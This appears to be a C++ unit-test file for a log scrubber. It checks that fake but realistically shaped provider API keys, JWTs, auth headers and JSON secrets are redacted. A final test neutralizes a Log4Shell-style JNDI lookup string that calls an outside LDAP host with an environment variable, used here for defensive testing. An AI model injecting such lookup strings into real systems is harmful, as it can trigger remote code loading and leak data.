#include "observe/scrub.h"

#include <gtest/gtest.h>

#include <random>

namespace parapet::observe {
namespace {

std::string S(std::string_view in) { return scrub(in).text; }

// Fake keys in the providers' real shapes (random-looking, never issued).
constexpr std::string_view kOpenAi = "sk-Qm3xT9vLp2RaW8yZk4NcB7dFh1JsU6eG0iOq5tYw";
constexpr std::string_view kOpenAiProj =
    "sk-proj-Zr8Kq2Lm9Xv4Tb7Nc1Wd6Yf3Hg5Js0Pa_Qe-Ru8Sk2Lm9Xv4Tb7Nc1Wd6Yf3Hg5";
constexpr std::string_view kAnthropic =
    "sk-ant-api03-Xy7Bq2Lm9Kv4Tb7Nc1Wd6Yf3Hg5Js0PaQeRu8Sk2Lm9Xv4Tb7Nc1Wd6Yf3Hg5Js0Pa-AbCdEfAA";
constexpr std::string_view kGoogle = "AIzaSyB3x9Lq2Mv7Tk4Wc8Nd1Rf6Yh0Jp5Gs2Ea";
constexpr std::string_view kAws = "AKIAIOSFODNN7EXAMPLE";
constexpr std::string_view kJwt =
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4ifQ."
    "SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c";

TEST(Scrub, ProviderKeysKeepOnlyTheirPrefix) {
  EXPECT_EQ(S("key " + std::string(kOpenAi) + " end"), "key sk-[REDACTED] end");
  EXPECT_EQ(S(kOpenAiProj), "sk-proj-[REDACTED]");
  EXPECT_EQ(S(kAnthropic), "sk-ant-[REDACTED]");
  EXPECT_EQ(S("https://x/v1beta/models/g:generateContent?key=" + std::string(kGoogle)),
            "https://x/v1beta/models/g:generateContent?key=AIza[REDACTED]");
  EXPECT_EQ(S("aws " + std::string(kAws) + "."), "aws AKIA[REDACTED].");
  EXPECT_EQ(S("ASIAY34FZKBOKMUTVV7A"), "ASIA[REDACTED]");
  EXPECT_EQ(S("ghp_0123456789abcdefghijABCDEFGHIJ0123456789"), "ghp_[REDACTED]");
  EXPECT_EQ(S("gsk_0123456789abcdefghijABCDEFGHIJ0123456789ab"), "gsk_[REDACTED]");
  EXPECT_EQ(S("xai-0123456789abcdefghijABCDEFGHIJ0123456789ab"), "xai-[REDACTED]");
  EXPECT_EQ(S("hf_0123456789abcdefghijABCDEFGHIJ012"), "hf_[REDACTED]");
  EXPECT_EQ(S("xoxb-1234567890-abcdefghij"), "xoxb-[REDACTED]");
}

TEST(Scrub, JwtsAndBearerTokens) {
  EXPECT_EQ(S("token " + std::string(kJwt) + "\n"), "token eyJ[REDACTED]\n");
  EXPECT_EQ(S("use Bearer " + std::string(kJwt)), "use Bearer [REDACTED]");
  EXPECT_EQ(S("bearer   abc123def456ghi789"), "bearer   [REDACTED]");
  EXPECT_EQ(S("Bearer dGhpcy1pcy1hLWxvbmctb3BhcXVlLXRva2Vu=="), "Bearer [REDACTED]");
}

TEST(Scrub, HeaderLines) {
  EXPECT_EQ(S("POST /v1 HTTP/1.1\r\nAuthorization: Basic dXNlcjpwYXNz\r\nHost: x\r\n"),
            "POST /v1 HTTP/1.1\r\nAuthorization: Basic [REDACTED]\r\nHost: x\r\n");
  EXPECT_EQ(S("x-api-key: plain-secret-value\nx-goog-api-key: abc\n"),
            "x-api-key: [REDACTED]\nx-goog-api-key: [REDACTED]\n");
  EXPECT_EQ(S("Cookie: session=abc; theme=dark\n"), "Cookie: [REDACTED]\n");
  EXPECT_EQ(S("  api-key: azure-key-123"), "  api-key: [REDACTED]");
  EXPECT_EQ(S("x-parapet-authorization: gw-token-1"), "x-parapet-authorization: [REDACTED]");
  // curl -H "...": the value ends at the quote, the rest of the line stays.
  EXPECT_EQ(S(R"(curl -H "Authorization: Token abc" https://api)"),
            R"(curl -H "Authorization: Token [REDACTED]" https://api)");
}

TEST(Scrub, JsonMembers) {
  EXPECT_EQ(S(R"({"api_key": "hunter2", "model": "gpt-4o"})"),
            R"({"api_key": "[REDACTED]", "model": "gpt-4o"})");
  EXPECT_EQ(S(R"({"apiKey":"a\"b\\c","n":1})"), R"({"apiKey":"[REDACTED]","n":1})");
  EXPECT_EQ(
      S(R"({"client_secret":"s3cr3t","password":"pw","access_token":"at"})"),
      R"({"client_secret":"[REDACTED]","password":"[REDACTED]","access_token":"[REDACTED]"})");
  EXPECT_EQ(S(R"({"headers":{"Authorization":"Bearer abc"}})"),
            R"({"headers":{"Authorization":"Bearer [REDACTED]"}})");
  // JSON inside a JSON string.
  EXPECT_EQ(S(R"({"body":"{\"api_key\": \"hunter2\"}"})"),
            R"({"body":"{\"api_key\": \"[REDACTED]\"}"})");
  EXPECT_EQ(S("{'password': 'pw'}"), "{'password': '[REDACTED]'}");
  EXPECT_EQ(S(R"({"password": null, "secret": 42})"), R"({"password": null, "secret": 42})");
}

TEST(Scrub, QueryAndFormPairs) {
  EXPECT_EQ(S("/v1?api_key=abc123&x=1"), "/v1?api_key=[REDACTED]&x=1");
  EXPECT_EQ(S("user=ana&password=hunter2"), "user=ana&password=[REDACTED]");
  EXPECT_EQ(S("OPENAI_API_KEY=whatever-it-is\n"), "OPENAI_API_KEY=[REDACTED]\n");
  EXPECT_EQ(S("access_token=\"quoted value\""), "access_token=\"[REDACTED]\"");
}

TEST(Scrub, BenignTextIsUntouched) {
  for (std::string_view text : {
           std::string_view("The quick brown fox jumps over the lazy dog."),
           std::string_view(R"({"model":"gpt-4o","messages":[{"role":"user","content":"hi"}],)"
                            R"("max_tokens":100,"stream":true})"),
           std::string_view(R"({"logprobs":{"content":[{"token":"Hello","logprob":-0.31}]}})"),
           std::string_view("Use sk-learn or scikit-learn-compatible-estimators for this."),
           std::string_view("The bearer of bad news; bearer instruments; Bearer tokens."),
           std::string_view("export HOME=${HOME:-/root}; echo $PATH"),
           std::string_view("Reset your password: open settings and click 'forgot'."),
           std::string_view("The secret to good bread is time."),
           std::string_view("key=value pairs, token counts, cache_key=abc, tokens_in=5"),
           std::string_view("déjà vu 👋 日本語のテキスト"),
           std::string_view("def f(password_hash): return password_hash.verify(x)"),
           std::string_view("AKIA is the prefix of AWS access key ids; AIza for Google."),
       }) {
    const Scrubbed s = scrub(text);
    EXPECT_EQ(s.text, text);
    EXPECT_EQ(s.masked, 0u) << text;
    EXPECT_FALSE(s.truncated);
  }
}

TEST(Scrub, IsIdempotentAndCounts) {
  const std::string in = "Authorization: Bearer " + std::string(kJwt) + "\n{\"api_key\":\"" +
                         std::string(kAnthropic) + "\"} " + std::string(kGoogle);
  const Scrubbed once = scrub(in);
  EXPECT_EQ(once.masked, 3u);
  EXPECT_EQ(once.text,
            "Authorization: Bearer [REDACTED]\n{\"api_key\":\"[REDACTED]\"} AIza[REDACTED]");
  const Scrubbed twice = scrub(once.text);
  EXPECT_EQ(twice.text, once.text);
  EXPECT_EQ(twice.masked, 0u);
}

TEST(Scrub, CapsOnACharacterBoundary) {
  Scrubbed s = scrub("abcdef", 4);
  EXPECT_EQ(s.text, "abcd");
  EXPECT_TRUE(s.truncated);
  s = scrub("ab👋cd", 4);  // the emoji's 4 bytes would straddle the cut
  EXPECT_EQ(s.text, "ab");
  s = scrub("abc", 3);
  EXPECT_EQ(s.text, "abc");
  EXPECT_FALSE(s.truncated);
}

TEST(Scrub, ASecretAcrossTheCapIsMaskedNotHalfKept) {
  const std::string in = std::string(90, 'x') + " " + std::string(kOpenAi) + " tail";
  const Scrubbed s = scrub(in, 100);
  EXPECT_EQ(s.text, std::string(90, 'x') + " sk-[REDAC");
  EXPECT_TRUE(s.truncated);
  EXPECT_EQ(s.masked, 1u);
}

TEST(Scrub, HugeInputIsReadOnlyUpToTheCapPlusLookahead) {
  std::string in(10'000'000, 'a');
  in.replace(10, kOpenAi.size(), kOpenAi);
  in[9] = ' ';
  in[10 + kOpenAi.size()] = ' ';
  const Scrubbed s = scrub(in, 1000);
  EXPECT_EQ(s.text.size(), 1000u);
  EXPECT_TRUE(s.text.starts_with("aaaaaaaaa sk-[REDACTED] aaa"));
  EXPECT_TRUE(s.truncated);
}

TEST(Scrub, TextEndingMidPatternIsSafe) {
  for (std::string_view text :
       {"", "\"", "'", "\\", "\\\"", "Authorization:", "Authorization: ", "\"api_key\":",
        "\"api_key\": \"", "\"api_key\": \"abc", "password=", "Bearer", "Bearer ", "sk-", "eyJ",
        "eyJhbGciOiJIUzI1NiJ9.", "x-api-key:\n", "AKIA"}) {
    const Scrubbed s = scrub(text);
    EXPECT_LE(s.text.size(), text.size() + kMask.size()) << text;
  }
  EXPECT_EQ(S("\"api_key\": \"unterminated"), "\"api_key\": \"[REDACTED]");
  EXPECT_EQ(S("password=hunter2"), "password=[REDACTED]");
}

// Random mixtures of the pieces the rules look for, each followed by a separator a real text
// could have there: no crash (ASan in CI), masking is idempotent, and no key survives.
TEST(Scrub, RandomMixturesAreIdempotentAndLeakNoKey) {
  const std::string_view pieces[] = {"\"",
                                     "'",
                                     "\\\"",
                                     "Authorization",
                                     "api_key",
                                     "password",
                                     "Bearer",
                                     "sk-",
                                     "eyJ",
                                     "x",
                                     "é",
                                     "\xff",
                                     std::string_view(kOpenAi),
                                     std::string_view(kGoogle),
                                     std::string_view(kJwt),
                                     std::string_view(kAnthropic),
                                     std::string_view(kAws)};
  const std::string_view separators[] = {" ", "\n", "\r\n", "\\n", "\\t", "%20", ":", "=",
                                         "&", "?",  "\"",   "'",   ", ",  "{",   "}"};
  std::mt19937 rng(7);
  for (int round = 0; round < 5000; ++round) {
    std::string in;
    const int n = static_cast<int>(rng() % 24);
    for (int k = 0; k < n; ++k) {
      in += pieces[rng() % std::size(pieces)];
      in += separators[rng() % std::size(separators)];
    }
    const Scrubbed once = scrub(in);
    EXPECT_EQ(scrub(once.text).text, once.text) << in;
    for (std::string_view key : {kOpenAi, kGoogle, kJwt, kAnthropic, kAws}) {
      EXPECT_EQ(once.text.find(key.substr(4)), std::string::npos) << in;
    }
  }
}

TEST(Scrub, KeysAfterEscapesAndPercentEncodingAreWordsOfTheirOwn) {
  EXPECT_EQ(S(R"({"content":"my key:\n)" + std::string(kOpenAiProj) + R"(\tok"})"),
            R"({"content":"my key:\nsk-proj-[REDACTED]\tok"})");
  EXPECT_EQ(S("Authorization=Bearer%20" + std::string(kOpenAi)), "Authorization=[REDACTED]");
  EXPECT_EQ(S("h=Bearer%20" + std::string(kOpenAi) + "&x=1"), "h=Bearer%20[REDACTED]&x=1");
  EXPECT_EQ(S("q=%22" + std::string(kGoogle) + "%22"), "q=%22AIza[REDACTED]%22");
  EXPECT_EQ(S("\\u0022" + std::string(kAws)), "\\u0022AKIA[REDACTED]");
}

}  // namespace
}  // namespace parapet::observe

namespace parapet::observe {
namespace {

TEST(SafeLogs, LookupsAreNeutralizedReversibly) {
  std::string attack = "${jndi:ldap://x/${env:USER}} ${::-j}";
  std::string safe = neutralize_lookups(attack);
  EXPECT_EQ(safe, "$%7Bjndi:ldap://x/$%7Benv:USER}} $%7B::-j}");
  EXPECT_FALSE(has_lookup(safe));
  EXPECT_EQ(restore_lookups(safe), attack);
  EXPECT_EQ(neutralize_lookups("no lookup $ {here}"), "no lookup $ {here}");
}

}  // namespace
}  // namespace parapet::observe
